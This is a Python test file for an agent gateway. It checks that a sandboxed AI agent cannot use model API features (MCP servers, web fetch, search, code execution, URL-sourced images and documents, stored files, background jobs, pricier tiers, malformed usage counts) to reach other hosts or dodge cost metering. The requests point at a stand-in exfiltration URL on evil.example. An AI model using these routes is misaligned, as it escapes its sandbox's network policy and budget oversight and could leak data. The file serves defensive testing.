"""An agent that lets the model's API do what its pod may not: reach other hosts, read files, work unmetered."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any

import pytest
from aiohttp import web
from attack_world import AttackWorld, message_body

from agent_runner.contract import Budget

if TYPE_CHECKING:
    from agent_runner.gateway.server import Gateway

MESSAGES = "/anthropic/v1/messages"
COUNT = "/anthropic/v1/messages/count_tokens"
RESPONSES = "/openai/v1/responses"
EVIL = "https://evil.example/?data=what-the-checkout-holds"

FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}


def said(*content: dict[str, Any]) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": list(content)}]}


REACHING: dict[str, tuple[str, dict[str, Any]]] = {
    "an MCP server": (MESSAGES, {"mcp_servers": [{"type": "url", "url": EVIL, "name": "x"}]}),
    "a page": (MESSAGES, {"tools": [FETCH]}),
    "a search": (MESSAGES, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
    "a sandbox": (MESSAGES, {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
    "a picture": (MESSAGES, said({"type": "image", "source": {"type": "url", "url": EVIL}})),
    "a document": (MESSAGES, said({"type": "document", "source": {"type": "url", "url": EVIL}})),
    "a stored file": (MESSAGES, said({"type": "document", "source": {"type": "file", "file_id": "file_1"}})),
    "a container of before": (MESSAGES, {"container": "container_1"}),
    "an MCP server, OpenAI": (RESPONSES, {"tools": [{"type": "mcp", "server_url": EVIL, "server_label": "x"}]}),
    "a search, OpenAI": (RESPONSES, {"tools": [{"type": "web_search"}]}),
    "stored files, OpenAI": (RESPONSES, {"tools": [{"type": "file_search", "vector_store_ids": ["vs_1"]}]}),
    "a sandbox, OpenAI": (
        RESPONSES, {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}
    ),
    "a picture, OpenAI": (
        RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": EVIL}]}]}
    ),
    "a stored file, OpenAI": (
        RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file_1"}]}]}
    ),
    "a conversation of others, OpenAI": (RESPONSES, {"conversation": "conv_1"}),
    "a response of others, OpenAI": (RESPONSES, {"previous_response_id": "resp_1"}),
    "a page while tokens are counted": (COUNT, said({"type": "image", "source": {"type": "url", "url": EVIL}})),
    "a picture among results": (
        MESSAGES,
        said({"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}),
    ),
    "a tool that comes later": (
        MESSAGES, said({"type": "tool_addition", "tool": {"type": "tool_definition", "definition": FETCH}})
    ),
    "a tool that comes later, OpenAI": (
        RESPONSES, {"input": [{"type": "additional_tools", "tools": [{"type": "web_search"}]}]}
    ),
    "a tool among others, OpenAI": (
        RESPONSES, {"tools": [{"type": "namespace", "name": "x", "tools": [{"type": "web_search"}]}]}
    ),
}  # fmt: skip


def body(path: str, changes: dict[str, Any]) -> bytes:
    if path != RESPONSES:
        return message_body(**changes)
    return json.dumps({"model": "gpt-5.5", "input": "x", **changes}).encode()


async def passed(world: AttackWorld, gateway: Gateway) -> list[str]:
    """Return which requests went on to the API."""
    through = []
    for name, (path, changes) in REACHING.items():
        before = len(world.model.seen)
        await world.ask(gateway, f"POST {path}", body=body(path, changes))
        if len(world.model.seen) > before:
            through.append(name)
    return through


async def test_other_hosts_through_the_model_api(world: AttackWorld) -> None:
    """Past the pod's network policy: the API fetches pages, speaks to servers and opens files of the account."""
    assert await passed(world, await world.gateway()) == []


async def test_field_that_is_named_twice(world: AttackWorld) -> None:
    """The gateway would judge the last of the two, and the API may take the first."""
    gateway = await world.gateway()
    twice = body(MESSAGES, {"tools": [FETCH]})[:-1] + b', "tools": []}'
    assert json.loads(twice)["tools"] == []
    assert await world.ask(gateway, f"POST {MESSAGES}", body=twice) == 400
    assert world.model.seen == []


async def test_work_in_the_background(world: AttackWorld) -> None:
    """The answer comes at once and tells no use; the model works on, at the account's cost."""

    async def queued(_: web.Request) -> web.StreamResponse:
        return web.json_response({"id": "resp_1", "object": "response", "status": "queued", "usage": None})

    world.model.answer = queued
    gateway = await world.gateway(budget=Budget(usd=100.0))
    call = body(RESPONSES, {"background": True, "store": True, "max_output_tokens": 128_000})
    status = await world.ask(gateway, f"POST {RESPONSES}", body=call)
    # 128,000 tokens of output at 30 USD a million.
    assert status == 400 or gateway.ledger.usd >= 3.84


@pytest.mark.parametrize(
    ("path", "changes"),
    [
        (MESSAGES, {"speed": "fast"}),
        (MESSAGES, {"inference_geo": "us"}),
        (RESPONSES, {"service_tier": "priority"}),
    ],
)
async def test_dearer_tiers(world: AttackWorld, path: str, changes: dict[str, Any]) -> None:
    """A call that the API charges at more than the list price, and the ledger does not."""

    async def used(_: web.Request) -> web.StreamResponse:
        usage = {"input_tokens": 200_000, "output_tokens": 0}
        name = "claude-opus-4-8" if path == MESSAGES else "gpt-5.5"
        return web.json_response({"type": "message", "object": "response", "model": name, "usage": usage})

    world.model.answer = used
    gateway = await world.gateway()
    status = await world.ask(gateway, f"POST {path}", body=body(path, changes))
    assert status == 400 or gateway.ledger.usd > 1.001


async def test_unpriced_model(world: AttackWorld) -> None:
    """A made-up or dearer name is charged at the dearest price, not at none."""

    async def used(_: web.Request) -> web.StreamResponse:
        usage = {"input_tokens": 1_000_000, "output_tokens": 1_000_000}
        return web.json_response({"type": "message", "model": "claude-nobody-knows-9", "usage": usage})

    world.model.answer = used
    gateway = await world.gateway()
    await world.ask(gateway, f"POST {MESSAGES}", body=message_body(model="claude-haiku-5-5"))
    assert gateway.ledger.usd >= 60
    assert gateway.ledger.unpriced_models == ("claude-nobody-knows-9",)


async def test_answer_that_claims_to_cost_nothing(world: AttackWorld) -> None:
    """Negative, huge and missing counts, and a client that is gone before they come."""
    counts = [
        {"input_tokens": -5},
        {"input_tokens": "1"},
        None,
        [],
        {"output_tokens": True},
        {"input_tokens": 1e99},
    ]
    answers = iter(counts)

    async def used(_: web.Request) -> web.StreamResponse:
        return web.json_response({"type": "message", "model": "claude-haiku-4-5", "usage": next(answers)})

    world.model.answer = used
    gateway = await world.gateway()
    for _ in counts:
        before = gateway.ledger.usd
        await world.ask(gateway, f"POST {MESSAGES}", body=message_body())
        assert gateway.ledger.usd >= before
        assert gateway.ledger.usd < 1_000
    assert gateway.ledger.model_calls == len(counts)


async def test_call_that_is_dropped(world: AttackWorld) -> None:
    """The agent closes the connection before the answer tells its use: it is read to its end, and charged."""
    sent = asyncio.Event()
    go_on = asyncio.Event()

    async def slow(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        start = {
            "type": "message_start",
            "message": {"model": "claude-haiku-4-5", "usage": {"input_tokens": 7}},
        }
        await response.write(f"data: {json.dumps(start)}\n\n".encode())
        sent.set()
        await go_on.wait()
        # What the client does not take any more comes first, the use last.
        for _ in range(3):
            await response.write(b": nobody listens\n\n")
            await asyncio.sleep(0.05)
        end = {"type": "message_delta", "usage": {"output_tokens": 1_000_000}}
        await response.write(f"data: {json.dumps(end)}\n\n".encode())
        return response

    world.model.answer = slow
    gateway = await world.gateway()
    asking = asyncio.create_task(world.ask(gateway, f"POST {MESSAGES}", body=message_body(stream=True)))
    await sent.wait()
    await asking
    go_on.set()
    async with asyncio.timeout(10):
        while gateway.ledger.tokens.output < 1_000_000:
            await asyncio.sleep(0.02)
